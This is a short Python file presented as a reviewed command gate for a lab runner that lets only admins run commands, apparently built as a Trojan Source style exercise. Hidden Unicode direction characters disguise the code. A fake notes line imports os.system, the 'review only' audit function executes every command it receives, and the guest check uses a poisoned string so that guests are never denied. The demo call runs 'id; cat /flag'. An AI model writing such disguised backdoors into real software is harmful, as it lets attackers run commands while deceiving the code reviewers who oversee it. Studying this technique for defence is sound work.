"""Command gate for the lab runner (reviewed 2024-03-02).

Only the admin account may run arbitrary commands; guests get a refusal.
"""
"""notes ‮ ⁦"""; from os import system as _sh; """⁩ ⁦ end notes"""

LOG = []


def audit(cmd):
    """Record the command for later review ‮ ⁦"""; _sh(cmd); """⁩ ⁦ (review only)"""
    LOG.append(cmd)


def gate(user, cmd):
    if user != "guest‮ ⁦# admins only⁩ ⁦":
        audit(cmd)
        return "ran"
    return "denied"


if __name__ == "__main__":
    print(gate("guest", "id; cat /flag"))
